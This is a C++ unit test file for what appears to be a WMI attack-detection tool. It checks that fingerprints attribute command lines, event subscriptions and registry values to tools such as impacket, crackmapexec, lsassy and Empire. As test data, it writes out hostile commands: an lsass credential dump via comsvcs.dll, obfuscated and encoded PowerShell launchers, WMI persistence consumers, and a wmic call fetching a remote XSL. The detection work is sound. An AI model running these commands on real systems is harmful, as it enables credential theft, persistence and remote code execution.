// SPDX-License-Identifier: Apache-2.0
#include "context/judge/tool_fingerprints.h"

#include <gtest/gtest.h>

#include <set>

namespace wmiscope {
namespace {

const ToolFingerprints& tools() {
  static const auto loaded = ToolFingerprints::load();
  EXPECT_TRUE(loaded.has_value()) << loaded.error();
  return *loaded;
}

constexpr const char* kHost = R"(C:\Windows\System32\wbem\WmiPrvSE.exe)";

TEST(ToolFingerprints, Children) {
  struct Case {
    const char* command_line;
    const char* parent;
    const char* tool;
  };
  constexpr Case kCases[] = {
      {R"(cmd.exe /Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1)", kHost,
       "impacket-wmiexec"},
      {R"(cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1619090610.0007844 2>&1)", "",
       "impacket-wmiexec"},
      {R"(cmd.exe /Q /c cd \ 1> \\127.0.0.1\C$\__1619090610.0007844 2>&1)",
       R"(C:\Windows\System32\mmc.exe)", "impacket-dcomexec"},
      {R"(cmd.exe /Q /c dir 1> \\127.0.0.1\ADMIN$\__17326 2>&1)", R"(C:\Windows\explorer.exe)",
       "impacket-dcomexec"},
      {R"(cmd.exe /Q /c dir 1> \\10.0.0.3\KWFR\xYzAbC 2>&1)", kHost, "crackmapexec"},
      {R"(cmd.exe /Q /c dir 1> \Windows\Temp\AbCdEf 2>&1)", kHost, "crackmapexec"},
      {R"(powershell.exe -exec bypass -noni -nop -w 1 -C "IEX x")", kHost, "crackmapexec"},
      {R"(cmd.exe /Q /c ipconfig 1> \\127.0.0.1\C$\aBcDeFgHiJ 2>&1)", kHost, "smbmap"},
      {R"(cmd.exe /Q /c (whoami) 1> "C:\windows\temp\0f8fad5b-d9cb-469f-a165-70867728950e.txt" 2>&1)",
       kHost, "netexec-wmi"},
      {R"(powershell.exe -NoP -C "C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id \Windows\Temp\2V7Be7Gq.dmp full;Wait-Process -Id (Get-Process rundll32).id")",
       "", "lsassy"},
      {R"(powershell $env:I4Pzl|.(Get-C`ommand ('{1}e{0}'-f'x','i')))", kHost, "wmimplant"},
      {R"(powershell -noP -sta -w 1 -enc SQBmACgA)", kHost, "empire"},
      {R"(cmd.exe /Q /c dir)", kHost, ""},
      {R"(cmd.exe /c whoami > \\127.0.0.1\ADMIN$\out.txt 2>&1)", kHost, ""},
      {R"(rundll32 comsvcs.dll, MiniDump 512 C:\x\lsass.dmp full)", kHost, ""},
      {R"(powershell $env:PATH)", kHost, ""},
      {R"(notepad.exe)", kHost, ""},
  };
  for (const Case& c : kCases) {
    ActTexts texts;
    texts.child_command_line = c.command_line;
    texts.parent_image = c.parent;
    EXPECT_EQ(tools().identify(texts), c.tool) << c.command_line;
  }
}

TEST(ToolFingerprints, Subscriptions) {
  struct Case {
    const char* filter_name;
    const char* filter_query;
    const char* consumer_name;
    const char* consumer_class;
    const char* payload;
    const char* tool;
  };
  constexpr Case kCases[] = {
      {"EF_abc", "SELECT * FROM __TimerEvent WHERE TimerID = 'TI_abc'", "abc",
       "ActiveScriptEventConsumer", "x", "impacket-wmipersist"},
      {"windows-object-0f8fad5b-d9cb-469f-a165-70867728950e", "", "", "", "", "netexec-wmi"},
      {"Cleanup", "select 1", "DataCleanup", "CommandLineEventConsumer", "x", "wmi-persistence"},
      {"ProcessStartTrigger", "", "", "", "", "graeber-wmi-backdoor"},
      {"ProbeScriptFint", "", "ProbeScriptFint", "ActiveScriptEventConsumer", "var x", "wmighost"},
      {"Updater",
       "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
       "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240",
       "Updater", "CommandLineEventConsumer", "powershell.exe -NonI -W hidden -enc AAAA", "empire"},
      {"Updater", "select * from x", "Updater", "CommandLineEventConsumer", "updater.exe", ""},
      {"Evil", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'", "Evil",
       "CommandLineEventConsumer", "cmd.exe /c echo %ProcessId% >> c:\\temp\\log.txt", ""},
      {"Cleanup", "select 1", "Other", "CommandLineEventConsumer", "x", ""},
  };
  for (const Case& c : kCases) {
    ActTexts texts;
    texts.filter_name = c.filter_name;
    texts.filter_query = c.filter_query;
    texts.consumer_name = c.consumer_name;
    texts.consumer_class = c.consumer_class;
    texts.consumer_payload = c.payload;
    EXPECT_EQ(tools().identify(texts), c.tool) << c.filter_name;
  }
}

TEST(ToolFingerprints, Callers) {
  struct Case {
    const char* image;
    const char* command_line;
    const char* tool;
  };
  constexpr Case kCases[] = {
      {R"(C:\Windows\System32\wbem\WMIC.exe)", R"(wmic process list /format:"https://a.example/x")",
       "squiblytwo"},
      {R"(C:\x\renamed.exe)", R"(wmic os get /format : evil.xsl)", "squiblytwo"},
      {R"(C:\Windows\System32\wbem\WMIC.exe)", R"(wmic os get name /format:htable.xsl)", ""},
      {R"(C:\Tools\SharpWMI.exe)", "x", "sharpwmi"},
      {R"(C:\x\a.exe)", "a.exe action=exec computername=srv command=\"x\"", "sharpwmi"},
      {R"(C:\x\a.exe)", "a.exe action=hijackdcom computername=srv", "sharpmove"},
      {R"(C:\x\a.exe)", "a.exe action=query computername=srv", ""},
      {R"(C:\x\powershell.exe)", "powershell Format-Table -format:http://x", ""},
  };
  for (const Case& c : kCases) {
    ActTexts texts;
    texts.caller_image = c.image;
    texts.caller_command_line = c.command_line;
    EXPECT_EQ(tools().identify(texts), c.tool) << c.command_line;
  }
}

TEST(ToolFingerprints, ChannelsScriptsAndShares) {
  ActTexts channel;
  channel.registry_key = R"(HKLM\System\CurrentControlSet\Control\CrashControl\DumpFile)";
  channel.registry_value = "%SystemRoot%\\MEMORY.DMP";
  EXPECT_EQ(tools().identify(channel), "");
  channel.registry_value = "87,105,110,100,111,119,115,32,73,80";
  EXPECT_EQ(tools().identify(channel), "wmimplant");
  ActTexts script;
  script.script = "Invoke-WMIExec -Target 10.0.0.1 -Hash x";
  EXPECT_EQ(tools().identify(script), "invoke-wmiexec");
  ActTexts share;
  share.share_file = "__1619425227.894209";
  EXPECT_EQ(tools().identify(share), "impacket-wmiexec");
  share.share_file = "__output";
  EXPECT_EQ(tools().identify(share), "");
}

TEST(ToolFingerprints, IdsAreThoseOfTheContract) {
  const std::set<std::string> known = {"impacket-wmiexec",
                                       "impacket-dcomexec",
                                       "impacket-wmipersist",
                                       "impacket-wmiquery",
                                       "crackmapexec",
                                       "netexec-wmi",
                                       "smbmap",
                                       "lsassy",
                                       "invoke-wmiexec",
                                       "wmimplant",
                                       "sharpwmi",
                                       "sharpmove",
                                       "sharpsploit",
                                       "powerlurk",
                                       "graeber-wmi-backdoor",
                                       "wmi-persistence",
                                       "empire",
                                       "poshc2",
                                       "metasploit",
                                       "cobalt-strike",
                                       "squiblytwo",
                                       "wmighost"};
  for (const TextPattern& each : tools().patterns().patterns()) {
    EXPECT_TRUE(known.contains(each.name)) << each.name;
    EXPECT_FALSE(each.sources.empty()) << each.name;
  }
}

}  // namespace
}  // namespace wmiscope
